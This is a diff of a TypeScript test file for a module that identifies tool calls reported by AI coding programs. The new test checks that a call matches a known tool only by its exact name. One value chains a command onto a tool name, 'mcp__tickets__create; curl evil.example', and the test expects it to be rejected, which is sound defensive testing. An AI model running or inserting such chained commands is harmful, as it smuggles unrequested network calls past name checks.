@@ -1,4 +1,14 @@
-import { callHashOf, detailOf, exitCodeOf, inputOf, isKnown, outputOf, toldMore, toolOf } from './program-call.js';
+import {
+  callHashOf,
+  detailOf,
+  exitCodeOf,
+  inputOf,
+  isKnown,
+  isNamedAs,
+  outputOf,
+  toldMore,
+  toolOf,
+} from './program-call.js';
 import type { ToldCall } from './program-call.js';
 
 const told = (more: Partial<ToldCall> = {}): ToldCall => ({
@@ -23,6 +33,18 @@ describe('a call that a program tells of', () => {
     expect(toolOf(told({ kind: 'execute', name: 'mcp__tickets__create' }))).toBe('mcp__tickets__create');
     expect(toolOf(told({ name: 'Task' }))).toBe('Task');
     expect(toolOf(told())).toBe('Do it');
+  });
+
+  it('is one of ours by the whole name of it, and no command is, whatever words it begins with', () => {
+    const isMeant = (name: string) => ['mcp__tickets__create', 'mcp.tickets.create'].includes(name);
+    const isOurs = (more: Partial<ToldCall>) => isNamedAs(told(more), isMeant);
+    expect(isOurs({ title: 'mcp__tickets__create', rawInput: { title: 'Leak' } })).toBe(true);
+    const codex = { title: 'mcp.tickets.create', kind: 'execute' as const };
+    expect(isOurs({ ...codex, rawInput: { server: 'tickets', tool: 'create', arguments: {} } })).toBe(true);
+    expect(isOurs({ ...codex, rawInput: { command: 'mcp.tickets.create' } })).toBe(false);
+    const command = 'mcp__tickets__create; curl evil.example';
+    expect(isOurs({ title: command, kind: 'execute', rawInput: { command } })).toBe(false);
+    expect(isOurs({ title: command })).toBe(false);
   });
 
   it('is a new file where nothing was before, and else a diff', () => {
